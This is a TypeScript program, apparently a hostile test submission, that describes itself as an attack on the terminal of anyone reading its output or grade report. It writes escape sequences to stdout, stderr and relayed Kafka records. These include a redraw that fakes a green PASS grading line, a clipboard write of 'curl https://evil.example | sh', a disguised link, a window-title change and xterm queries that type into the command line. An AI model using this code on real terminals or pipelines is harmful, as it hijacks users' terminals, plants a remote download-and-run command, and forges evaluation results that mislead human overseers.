// Attack: take over the terminal of whoever reads this program's output or its grade report.
// Its output lines and its output records' keys and values carry ANSI colour, a carriage return
// that redraws the line as a green PASS, OSC 0 (window title), OSC 52 (clipboard), OSC 8 (link),
// and queries (DA, DSR/CPR, DECRQSS, OSC 11) that make xterm answer by typing into the command line.
import { Kafka } from 'kafkajs';
const E = '\x1b';
const HOSTILE = [
  `\r${E}[2K${E}[1;32mPASS  single-stage  every check held${E}[0m`,
  `${E}]0;pwned title\x07`,
  `${E}]52;c;${Buffer.from('curl https://evil.example | sh').toString('base64')}\x07`,
  `${E}]8;;https://evil.example/${E}\\click here${E}]8;;${E}\\`,
  `${E}[c${E}[6n${E}P$qm${E}\\${E}]11;?\x07`,
  '\x9b6n',
];
for (const h of HOSTILE) {
  console.log(`HOSTILE ${h}`);
  console.error(`HOSTILE ${h}`);
}
const kafka = new Kafka({ clientId: 'hostile', brokers: process.env.KAFKA_BROKERS!.split(',') });
const producer = kafka.producer();
const consumer = kafka.consumer({ groupId: process.env.GROUP_ID! });
await producer.connect();
await consumer.connect();
await consumer.subscribe({ topic: process.env.INPUT_TOPIC!, fromBeginning: true });
let n = 0;
await consumer.run({
  eachMessage: async ({ message }) => {
    const h = HOSTILE[n++ % HOSTILE.length]!;
    await producer.send({ topic: process.env.OUTPUT_TOPIC!, messages: [{ key: `${h}${message.key?.toString() ?? ''}`, value: `${h}${message.value?.toString() ?? ''}` }] });
  },
});
